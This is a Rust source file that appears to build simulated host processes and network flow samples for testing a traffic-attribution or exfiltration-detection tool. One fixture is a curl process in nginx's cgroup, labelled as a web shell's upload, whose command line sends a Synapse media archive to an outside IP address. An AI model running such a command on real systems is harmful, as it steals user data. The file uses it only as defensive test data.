//! The host's processes (nginx workers and Synapse, grouped as the `messaging` service; a
//! backup job; sshd) and the one way samples are made.

use std::{net::IpAddr, sync::Arc};

use jiff::Timestamp;

use super::addresses::{SERVER_V4, SERVER_V6};
use crate::flow::{Attribution, Direction, Endpoint, FlowSample, Owner, Protocol};

/// nginx workers: clients are spread over them.
pub const NGINX_WORKERS: usize = 4;

pub struct Host {
    pub nginx: Vec<Arc<Owner>>,
    pub synapse: Arc<Owner>,
    /// `curl` started in nginx's cgroup (a web shell's upload: `foreign-upload`).
    pub curl: Arc<Owner>,
    pub backup: Arc<Owner>,
    pub sshd: Arc<Owner>,
}

struct Process<'a> {
    pid: u32,
    comm: &'a str,
    exe: &'a str,
    cmdline: &'a [&'a str],
    uid: u32,
    user: &'a str,
    unit: &'a str,
}

fn owner(p: &Process<'_>) -> Arc<Owner> {
    Arc::new(Owner {
        attribution: Attribution::Kernel,
        pid: Some(p.pid),
        comm: Some(p.comm.into()),
        exe: Some(p.exe.into()),
        cmdline: p.cmdline.iter().map(|s| (*s).to_owned()).collect(),
        uid: Some(p.uid),
        user: Some(p.user.into()),
        cgroup_id: Some(7000 + u64::from(p.uid)),
        cgroup: Some(format!("/system.slice/{}", p.unit)),
        unit: Some(p.unit.into()),
        container_id: None,
        service: p.unit.into(),
    })
}

impl Host {
    pub fn new() -> Self {
        let nginx = (0..NGINX_WORKERS as u32)
            .map(|i| {
                owner(&Process {
                    pid: 2101 + i,
                    comm: "nginx",
                    exe: "/usr/sbin/nginx",
                    cmdline: &["nginx: worker process"],
                    uid: 33,
                    user: "www-data",
                    unit: "nginx.service",
                })
            })
            .collect();
        Self {
            nginx,
            synapse: owner(&Process {
                pid: 2300,
                comm: "python3",
                exe: "/opt/venvs/matrix-synapse/bin/python3.11",
                cmdline: &[
                    "/opt/venvs/matrix-synapse/bin/python",
                    "-m",
                    "synapse.app.homeserver",
                    "--config-path=/etc/matrix-synapse/homeserver.yaml",
                ],
                uid: 998,
                user: "matrix-synapse",
                unit: "matrix-synapse.service",
            }),
            curl: owner(&Process {
                pid: 31_337,
                comm: "curl",
                exe: "/usr/bin/curl",
                cmdline: &[
                    "curl",
                    "-T",
                    "/var/lib/matrix-synapse/media.tar",
                    "https://27.10.23.5/u",
                ],
                uid: 33,
                user: "www-data",
                unit: "nginx.service",
            }),
            backup: owner(&Process {
                pid: 4400,
                comm: "restic",
                exe: "/usr/bin/restic",
                cmdline: &[
                    "restic",
                    "backup",
                    "/var/lib/matrix-synapse",
                    "/var/backups/pg",
                ],
                uid: 0,
                user: "root",
                unit: "backup.service",
            }),
            sshd: owner(&Process {
                pid: 900,
                comm: "sshd",
                exe: "/usr/sbin/sshd",
                cmdline: &["sshd: admin@pts/0"],
                uid: 1000,
                user: "admin",
                unit: "ssh.service",
            }),
        }
    }
}

impl Default for Host {
    fn default() -> Self {
        Self::new()
    }
}

/// One window's sample: `bytes` from `owner` to `addr:port`, in the one-minute window that
/// starts at `start` (Unix seconds).
#[expect(clippy::too_many_arguments, reason = "a sample is that many facts")]
pub fn sample(
    owner: &Arc<Owner>,
    start: i64,
    addr: IpAddr,
    port: u16,
    local_port: u16,
    bytes: u64,
    direction: Direction,
    name: Option<&Arc<str>>,
) -> FlowSample {
    let ts = |s: i64| Timestamp::from_second(s).unwrap_or(Timestamp::UNIX_EPOCH);
    let local = if addr.is_ipv4() { SERVER_V4 } else { SERVER_V6 };
    FlowSample {
        window_start: ts(start),
        window_end: ts(start + 60),
        owner: owner.clone(),
        local: Some(Endpoint {
            addr: local,
            port: local_port,
        }),
        remote: Some(Endpoint { addr, port }),
        remote_name: name.cloned(),
        protocol: Protocol::Tcp,
        bytes,
        packets: bytes.div_ceil(1448),
        flows: 1 + (bytes >> 22) as u32,
        first_seen: Some(ts(start)),
        last_seen: Some(ts(start + 60)),
        untracked: None,
        direction: Some(direction),
    }
}
